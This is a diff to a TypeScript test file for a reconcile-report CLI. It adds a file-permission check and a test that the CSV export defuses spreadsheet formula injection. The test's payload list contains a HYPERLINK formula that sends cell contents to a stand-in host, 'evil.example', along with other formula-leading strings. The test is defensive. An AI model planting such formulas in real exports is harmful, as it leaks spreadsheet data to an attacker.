@@ -3,7 +3,7 @@
  * fill it (no Temporal needed: the report reads the store alone), CSV a spreadsheet opens with
  * every cell exact, JSON with every round, the filters, `--out`, and each mistake in one sentence.
  */
-import { mkdtempSync, readFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, statSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { parse } from 'csv-parse/sync';
@@ -179,6 +179,8 @@ describe('cutover reconcile-report', () => {
     expect(written.stdout).toBe('');
     expect(written.stderr.trim()).toBe(`wrote ${file}`);
     expect(csvRows(readFileSync(file, 'utf8'))).toHaveLength(8);
+    // Differing rows are production data: for the person who wrote them, whatever the umask.
+    expect(statSync(file).mode & 0o777).toBe(0o600);
     const nowhere = runCli(['reconcile-report', runId, 'compare', '--out', path.join(dir, 'no', 'such', 'folder.csv')], env);
     expect(nowhere.code).toBe(2);
     expect(nowhere.stderr).toMatch(/^cutover: cannot write .*folder\.csv \(ENOENT\); pick a folder you can write to\n$/);
@@ -228,5 +230,46 @@ describe('reportCsv', () => {
       ['check', 'attempt', 'round', 'kind', 'key:kind', 'key:round', 'column', 'source_value', 'target_value', 'note'],
       ['(action)', '1', '3', 'mismatched', 'B2B', '7', 'name', 'a', 'b', ''],
     ]);
+  });
+
+  it('keeps every name a spreadsheet would run as a formula as text: check, key header, column (OWASP CSV injection)', () => {
+    const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd'];
+    const [check, key, column, renamed, target, more] = payloads;
+    const csv = reportCsv([
+      {
+        runId: 'r-1',
+        stepId: 's',
+        attempt: 1,
+        check: check!,
+        round: 1,
+        startedAt: '2026-11-24T10:00:00.000Z',
+        endedAt: '2026-11-24T10:00:01.000Z',
+        result: result({
+          mismatched: 1,
+          missing_in_target: 1,
+          examples: [
+            {
+              kind: 'mismatched',
+              key: { [key!]: 1 },
+              columns: [column!, target!],
+              source: { [column!]: -5, [renamed!]: 'a' },
+              target: { [column!]: 7, [target!]: 'b' },
+            },
+            { kind: 'missing_in_target', key: { [key!]: 2 }, columns: [more!], source: { [more!]: 'x' }, target: null },
+          ],
+        }),
+      },
+    ]);
+    const rows = csvRows(csv);
+    expect(rows[0]).toEqual(['check', 'attempt', 'round', 'kind', `'${key}`, 'column', 'source_value', 'target_value', 'note']);
+    expect(rows.slice(1)).toEqual([
+      // A number stays a number: only text is made inert.
+      [`'${check}`, '1', '1', 'mismatched', '1', `'${column}`, '-5', '7', ''],
+      [`'${check}`, '1', '1', 'mismatched', '1', `'${renamed} -> ${target}`, 'a', 'b', ''],
+      [`'${check}`, '1', '1', 'missing_in_target', '2', `'${more}`, 'x', '', 'row only in the source'],
+    ]);
+    // Nothing in the file but a number starts a cell with a formula character.
+    const cells = rows.flat().filter((value) => !/^-?\d+$/.test(value));
+    for (const value of cells) expect(value, value).not.toMatch(/^[=+\-@\t\r]/);
   });
 });
